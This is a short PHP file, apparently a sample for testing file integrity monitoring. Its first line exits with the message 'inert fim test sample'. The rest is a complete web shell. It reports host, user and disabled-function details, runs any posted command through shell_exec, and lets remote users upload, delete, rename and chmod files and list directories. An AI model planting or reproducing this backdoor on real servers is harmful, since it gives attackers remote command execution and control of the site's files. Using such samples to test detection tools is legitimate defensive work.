<?php exit('inert fim test sample'); ?>
<?php
@error_reporting(0);
@set_time_limit(0);
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo '<pre>' . php_uname() . "\n";
$u = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => get_current_user());
echo 'user: ' . $u['name'] . ' safe_mode: ' . (ini_get('safe_mode') ? 'on' : 'off');
echo ' disabled: ' . ini_get('disable_functions') . "\n";
echo 'free: ' . disk_free_space($d) . '</pre>';
if (isset($_POST['chmod'])) { chmod($_POST['file'], octdec($_POST['chmod'])); }
if (isset($_POST['del'])) { unlink($_POST['del']); }
if (isset($_POST['ren'])) { rename($_POST['old'], $_POST['ren']); }
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $d . '/' . $_FILES['up']['name']); }
if (isset($_POST['c'])) { echo '<pre>' . shell_exec($_POST['c']) . '</pre>'; }
foreach (scandir($d) as $f) {
    echo substr(sprintf('%o', fileperms($d . '/' . $f)), -4) . ' ' . $f . "<br>";
}
?>
<form method="post" enctype="multipart/form-data">
<input name="c"><input type="file" name="up"><input type="submit">
</form>
